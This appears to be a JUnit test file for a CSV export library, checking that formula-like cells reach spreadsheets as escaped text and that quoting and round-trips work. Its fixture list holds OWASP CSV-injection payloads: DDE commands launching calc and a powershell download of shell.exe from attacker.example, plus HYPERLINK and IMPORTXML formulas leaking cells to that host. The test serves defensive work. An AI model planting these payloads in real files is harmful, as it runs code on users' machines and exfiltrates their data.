package org.schemadepartemental.io.hardening;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.schemadepartemental.core.CalendarPeriod;
import org.schemadepartemental.core.Fiche;
import org.schemadepartemental.core.Measurement;
import org.schemadepartemental.core.Orientation;
import org.schemadepartemental.core.Schema;
import org.schemadepartemental.io.DocumentSource;
import org.schemadepartemental.io.ReadOptions;
import org.schemadepartemental.io.WriteOptions;
import org.schemadepartemental.io.csv.CsvFormatProvider;
import org.schemadepartemental.io.csv.MeasurementCsv;
import org.schemadepartemental.io.csv.MeasurementRow;

/**
 * CSV injection, as a spreadsheet user meets it: every text cell that a spreadsheet would run
 * (starting with {@code =}, {@code +}, {@code -}, {@code @}, a tab, a carriage return, a line feed
 * or a NUL; the OWASP examples) reaches the spreadsheet as text, in both layouts; numbers, negative
 * ones included, stay numbers; RFC 4180 quoting keeps commas, semicolons, quotes and line breaks
 * inside their cell; and reading gives back exactly what was written. (The guard itself, cell by
 * cell, is {@code FormulaGuardTest}.)
 */
class CsvInjectionTest {

  /** Cells a spreadsheet would execute: one per trigger, then the OWASP CSV injection examples. */
  static List<String> dangerousCells() {
    return List.of("=1+1", "+1", "-1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\u0000=1+1",
        "=cmd|' /C calc'!A0",
        "=cmd|' /C powershell IEX(wget attacker.example/shell.exe)'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+cmd|' /C notepad'!'A1'",
        "=HYPERLINK(\"http://attacker.example?leak=\"&A1&A2,\"Error: please click for further information\")",
        "=IMPORTXML(CONCAT(\"http://attacker.example?v=\", CONCATENATE(A2:E2)), \"//a\")",
        "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
        "'=already quoted by a user");
  }

  @ParameterizedTest
  @MethodSource("dangerousCells")
  void aDangerousCellReachesTheSpreadsheetAsTextAndReadsBackExactly(String cell) throws IOException {
    Schema plan = Schema.builder("p", "P")
        .addOrientation(Orientation.builder("1", cell)
            .addFiche(Fiche.builder("2", cell).addSousAction(cell, org.schemadepartemental.core.ActionCalendar.none())
                .build())
            .build())
        .build();
    byte[] csv = write(plan, WriteOptions.defaults());

    for (String written : spreadsheetCells(csv)) {
      assertThat(startsAFormula(written)).as("cell as a spreadsheet sees it: %s", written).isFalse();
    }
    // The model strips titles ("\t=1+1" is "=1+1"): the cell written is the title the plan holds.
    String title = plan.fiches().get(0).title();
    assertThat(spreadsheetCells(csv)).contains("'" + title);
    Schema back = new CsvFormatProvider().reader().orElseThrow()
        .read(DocumentSource.of("plan.csv", csv), ReadOptions.defaults()).schema();
    assertThat(back.orientations().get(0).title()).isEqualTo(plan.orientations().get(0).title());
    assertThat(back.fiches().get(0).title()).isEqualTo(title);
    assertThat(back.fiches().get(0).sousActions().get(0).title()).isEqualTo(plan.fiches().get(0).sousActions().get(0).title());
  }

  @ParameterizedTest
  @MethodSource("dangerousCells")
  void measurementTextColumnsAreGuardedAndReadBackExactly(String cell) throws IOException {
    List<MeasurementRow> rows = List.of(new MeasurementRow(0, "fa-1.i1", Measurement.builder(CalendarPeriod.parse("2019"))
        .value(new BigDecimal("-12.75")).territory(cell).source(cell).comment(cell).text(cell).build()));
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    MeasurementCsv.write(rows, out, WriteOptions.defaults());

    List<String> cells = spreadsheetCells(out.toByteArray());
    assertThat(cells).filteredOn(c -> !c.equals("-12.75")).noneMatch(CsvInjectionTest::startsAFormula);
    Measurement back = MeasurementCsv.read(DocumentSource.of("m.csv", out.toByteArray()), ReadOptions.defaults())
        .rows().get(0).measurement();
    // Read back, a measurement also carries its row's location (which the CSV layout does not write).
    assertThat(back.toBuilder().location(null).build()).isEqualTo(rows.get(0).measurement());
  }

  @Test
  void negativeNumbersStayNumbersForTheSpreadsheet() throws IOException {
    Measurement m = Measurement.builder(CalendarPeriod.parse("2019-S1")).value(new BigDecimal("-3.5"))
        .numerator(new BigDecimal("-7")).denominator(new BigDecimal("2")).build();
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    MeasurementCsv.write(List.of(new MeasurementRow(0, "fa-1.i1", m)), out, WriteOptions.defaults());

    assertThat(spreadsheetCells(out.toByteArray())).contains("-3.5", "-7").doesNotContain("'-3.5", "'-7");
    assertThat(MeasurementCsv.read(DocumentSource.of("m.csv", out.toByteArray()), ReadOptions.defaults())
        .rows().get(0).measurement().toBuilder().location(null).build()).isEqualTo(m);
  }

  @Test
  void rfc4180QuotingKeepsDelimitersQuotesAndLineBreaksInTheirCell() throws IOException {
    List<String> texts = List.of("a, b", "a; b", "dit \"bonjour\"", "\"", "ligne 1\nligne 2", "ligne 1\r\nligne 2",
        "fin\r", "  espaces  ", "tab\tulation");
    for (String delimiter : List.of(",", ";")) {
      Orientation.Builder o = Orientation.builder("1", "Axe");
      Fiche.Builder f = Fiche.builder("1", "Fiche");
      texts.forEach(t -> f.addSousAction(t, org.schemadepartemental.core.ActionCalendar.none()));
      Schema plan = Schema.builder("p", "P").addOrientation(o.addFiche(f.build()).build()).build();
      byte[] csv = write(plan, WriteOptions.defaults().withProperty("csv.delimiter", delimiter));
      String raw = new String(csv, StandardCharsets.UTF_8);

      assertThat(raw).contains("\"dit \"\"bonjour\"\"\"", "\"ligne 1\nligne 2\"", "\"ligne 1\r\nligne 2\"")
          .contains(delimiter.equals(",") ? "\"a, b\"" : "\"a; b\"");
      Schema back = new CsvFormatProvider().reader().orElseThrow()
          .read(DocumentSource.of("plan.csv", csv), ReadOptions.defaults()).schema();
      assertThat(back.fiches().get(0).sousActions()).isEqualTo(plan.fiches().get(0).sousActions());
    }
  }

  private static boolean startsAFormula(String cell) {
    return !cell.isEmpty() && "=+-@\t\r\n\u0000".indexOf(cell.charAt(0)) >= 0;
  }

  private static byte[] write(Schema plan, WriteOptions options) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    new CsvFormatProvider().writer().orElseThrow().write(plan, out, options);
    return out.toByteArray();
  }

  /** Every cell as a spreadsheet gets it: a plain RFC 4180 parser, no guard removed. */
  private static List<String> spreadsheetCells(byte[] csv) throws IOException {
    String text = new String(csv, StandardCharsets.UTF_8).substring(1);
    char delimiter = text.lines().findFirst().orElse("").contains(";") ? ';' : ',';
    List<String> cells = new ArrayList<>();
    CsvMapper mapper = new CsvMapper();
    try (MappingIterator<String[]> rows = mapper.readerFor(String[].class).with(CsvParser.Feature.WRAP_AS_ARRAY)
        .with(CsvSchema.emptySchema().withColumnSeparator(delimiter)).readValues(text)) {
      rows.forEachRemaining(row -> cells.addAll(List.of(row)));
    }
    return cells;
  }
}
